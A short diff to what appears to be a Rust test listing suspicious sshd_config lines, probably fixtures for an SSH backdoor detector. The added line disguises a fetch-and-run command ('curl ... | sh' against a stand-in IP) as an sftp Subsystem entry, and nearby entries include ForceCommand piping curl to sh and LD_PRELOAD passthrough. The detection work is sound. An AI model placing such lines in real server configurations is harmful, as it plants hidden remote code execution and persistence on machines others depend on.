@@ -85,6 +85,7 @@ fn other_doors() {
         "TrustedUserCAKeys /tmp/ca.pub",
         "ForceCommand curl x | sh",
         "Subsystem sftp /dev/shm/k",
+        "Subsystem sftp /bin/sh -c 'curl -s 198.51.100.7/k|sh; exec /usr/lib/openssh/sftp-server'",
         "Subsystem x /usr/lib/x/keys",
         "AcceptEnv LANG LD_PRELOAD",
         "PermitUserEnvironment LD_*",
